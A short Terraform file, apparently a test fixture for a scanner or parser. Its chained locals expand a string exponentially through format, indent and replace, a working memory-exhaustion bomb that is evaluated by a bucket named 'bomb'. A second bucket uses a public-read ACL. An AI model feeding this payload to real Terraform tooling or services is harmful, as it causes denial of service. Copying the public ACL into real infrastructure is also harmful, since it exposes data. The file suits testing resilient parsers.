locals {
  a0 = "xy"
  a1 = format("%s%s%s", local.a0, local.a0, local.a0)
  a2 = indent(10000, join("\n", [local.a1, local.a1]))
  a3 = replace(local.a2, "x", local.a2)
  a4 = format("%s%s%s", local.a3, local.a3, local.a3)
  a5 = indent(10000, join("\n", [local.a4, local.a4]))
  a6 = replace(local.a5, "x", local.a5)
  a7 = format("%s%s%s", local.a6, local.a6, local.a6)
  a8 = indent(10000, join("\n", [local.a7, local.a7]))
  a9 = replace(local.a8, "x", local.a8)
  a10 = format("%s%s%s", local.a9, local.a9, local.a9)
  a11 = indent(10000, join("\n", [local.a10, local.a10]))
  a12 = replace(local.a11, "x", local.a11)
  a13 = format("%s%s%s", local.a12, local.a12, local.a12)
  a14 = indent(10000, join("\n", [local.a13, local.a13]))
  a15 = replace(local.a14, "x", local.a14)
  a16 = format("%s%s%s", local.a15, local.a15, local.a15)
  a17 = indent(10000, join("\n", [local.a16, local.a16]))
  a18 = replace(local.a17, "x", local.a17)
  a19 = format("%s%s%s", local.a18, local.a18, local.a18)
  a20 = indent(10000, join("\n", [local.a19, local.a19]))
  a21 = replace(local.a20, "x", local.a20)
  a22 = format("%s%s%s", local.a21, local.a21, local.a21)
  a23 = indent(10000, join("\n", [local.a22, local.a22]))
  a24 = replace(local.a23, "x", local.a23)
  a25 = format("%s%s%s", local.a24, local.a24, local.a24)
  a26 = indent(10000, join("\n", [local.a25, local.a25]))
  a27 = replace(local.a26, "x", local.a26)
  a28 = format("%s%s%s", local.a27, local.a27, local.a27)
  a29 = indent(10000, join("\n", [local.a28, local.a28]))
  a30 = replace(local.a29, "x", local.a29)
  x = local.a30
}
resource "aws_s3_bucket" "bomb" {
  bucket = "x"
  tags   = { n = length(local.x) }
}
resource "aws_s3_bucket" "good" {
  bucket = "b"
  acl    = "public-read"
}
